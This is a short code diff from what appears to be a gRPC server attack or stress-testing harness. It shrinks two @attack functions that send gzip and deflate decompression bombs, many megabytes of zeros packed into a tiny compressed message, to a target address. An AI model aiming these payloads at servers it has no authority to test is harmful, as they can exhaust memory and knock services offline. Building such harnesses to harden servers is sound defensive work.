@@ -243,14 +243,14 @@ def zeros(size: int, compressor) -> bytes:
 
 @attack
 def gzip_bomb(address: str, seconds: float) -> str:
-    """256 MiB of zeros behind 256 KiB of gzip."""
-    bomb = zeros(256 * MIB, zlib.compressobj(9, zlib.DEFLATED, 31))
+    """64 MiB of zeros behind 64 KiB of gzip."""
+    bomb = zeros(64 * MIB, zlib.compressobj(9, zlib.DEFLATED, 31))
     return bodies(address, seconds, message(bomb, compressed=True), [(b"grpc-encoding", b"gzip")])
 
 
 @attack
 def deflate_bomb(address: str, seconds: float) -> str:
-    bomb = zeros(256 * MIB, zlib.compressobj(9))
+    bomb = zeros(64 * MIB, zlib.compressobj(9))
     return bodies(address, seconds, message(bomb, compressed=True), [(b"grpc-encoding", b"deflate")])
 
 
